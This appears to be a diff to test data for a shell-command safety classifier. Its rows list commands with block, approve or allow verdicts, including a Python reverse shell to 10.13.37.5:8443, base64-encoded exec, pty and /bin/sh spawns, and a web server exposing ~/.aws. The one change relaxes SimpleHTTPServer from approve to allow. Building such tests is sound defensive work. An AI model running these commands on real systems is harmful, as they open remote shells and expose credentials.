@@ -110,7 +110,7 @@ rows = [
     (L + "python_base64_encoded_execution", "python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldA=='))\"", "block", "code-injection", "critical", [], ""),
     (L + "python_base64_encoded_execution", "python3 -c \"import base64;print(base64.b64decode('aGVsbG8=').decode())\"", "allow", None, None, [], "decodes and prints"),
     (L + "python_http_server_execution", "python3 -m http.server 8000 --directory ~/.aws --bind 0.0.0.0", "block", "data-exfiltration", "critical", ["credential-exposure"], "serves credentials"),
-    (L + "python_http_server_execution", "python2 -m SimpleHTTPServer 8080", "approve", "network-suspicious", "medium", ["data-exfiltration"], "serves cwd on all interfaces"),
+    (L + "python_http_server_execution", "python2 -m SimpleHTTPServer 8080", "allow", None, None, [], "serves the working directory: routine dev"),
     (L + "python_pty_spawn", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "approve", "code-injection", "medium", [], "tty upgrade, typical after a reverse shell"),
     (L + "python_reverse_shell", "python -c 'import socket,subprocess,pty;s=socket.socket();s.connect((\"10.13.37.5\",8443));[__import__(\"os\").dup2(s.fileno(),i) for i in range(3)];pty.spawn(\"/bin/sh\")'", "block", "network-suspicious", "critical", [], ""),
     (L + "python_shell_os_system", "python3 -c 'import os; os.system(\"/bin/sh\")'", "approve", "code-injection", "medium", [], ""),
